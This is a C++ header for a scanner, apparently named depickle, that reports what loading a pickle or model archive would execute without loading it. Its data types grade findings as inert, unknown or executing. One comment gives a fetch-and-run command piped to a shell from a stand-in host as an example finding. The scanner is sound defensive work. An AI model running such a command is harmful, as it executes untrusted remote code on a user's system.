// Reports what loading a file would execute, without loading it.
#pragma once

#include <filesystem>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "depickle/base/error.h"
#include "depickle/base/source.h"

namespace depickle::scan {

enum class Verdict {
  tensors_only,  ///< every global is on the closed list: it only builds tensors and plain containers
  has_code,      ///< a pickle imports or calls something else
  unreadable,    ///< the file could not be read to the end; the part that was read has no findings
};
/// Returns "tensors-only", "has-code" or "unreadable".
std::string_view name(Verdict verdict) noexcept;

/// How bad a finding is.
enum class Grade {
  inert,     ///< a known class that only stores data
  unknown,   ///< a class or function that depickle does not know
  executes,  ///< runs commands or code, or changes or reads something outside the object
};
/// Returns "inert", "unknown" or "executes".
std::string_view name(Grade grade) noexcept;

/// An action of the unpickler other than building tensors and plain containers.
struct Finding {
  std::string record;     ///< "archive/data.pkl"; empty if the file itself is the pickle
  uint64_t offset_bytes;  ///< of the opcode, from the start of the record
  std::string global;     ///< "os.system"; empty if no global is called or imported
  std::string what;       ///< `os.system("curl evil.sh | sh")`
  std::string effect;     ///< "runs a command"
  uint64_t count;         ///< how often the same action is done
  Grade grade;
};

/// A global that a pickle imports.
struct NamedGlobal {
  std::string record;
  std::string name;
  bool inert;          ///< on the closed list
  std::string effect;  ///< "runs a command", "builds tensors and plain containers"
  uint64_t count;
  uint64_t offset_bytes;
};

struct Scan {
  Verdict verdict = Verdict::unreadable;
  std::vector<Finding> findings;     ///< at most 1000 of each grade
  std::vector<NamedGlobal> globals;  ///< at most 10,000
  uint64_t pickles = 0;              ///< pickles that were audited
  uint64_t audited_bytes = 0;        ///< sum of their sizes; bytes that were audited twice count twice
  std::optional<Error> error;        ///< why the file could not be read to the end
  std::vector<std::string> notes;
};

struct ScannedFile {
  std::string path;
  Scan scan;
};

/// Audits every pickle of a file. Never throws because of the file's content. If the directory of a zip archive is
/// damaged or contradictory, searches the whole file for records.
Scan scan_pickles(std::shared_ptr<const ByteSource> file);

/// Calls scan_pickles(), then reads a file without findings as a table: it is unreadable if its pickle is harmless
/// but its storages are invalid. Throws Error{not_found, io} if the file cannot be opened.
Scan scan(const std::filesystem::path& path);
Scan scan(const std::shared_ptr<const ByteSource>& file);

}  // namespace depickle::scan
